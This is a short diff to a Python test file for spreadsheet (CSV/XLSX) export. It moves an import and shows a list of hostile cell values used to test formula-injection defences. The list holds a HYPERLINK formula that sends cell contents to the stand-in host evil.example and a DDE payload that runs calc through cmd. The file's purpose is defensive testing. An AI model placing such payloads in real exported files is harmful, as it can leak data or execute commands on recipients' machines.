@@ -11,6 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 
+from core.interfaces.exports import write_sheets
 from core.spreadsheet import (
     FORMULA_TRIGGERS,
     csv_row,
@@ -18,7 +19,6 @@ from core.spreadsheet import (
     xlsx_row,
     xlsx_value,
 )
-from reports.interfaces.exports import write_sheets
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
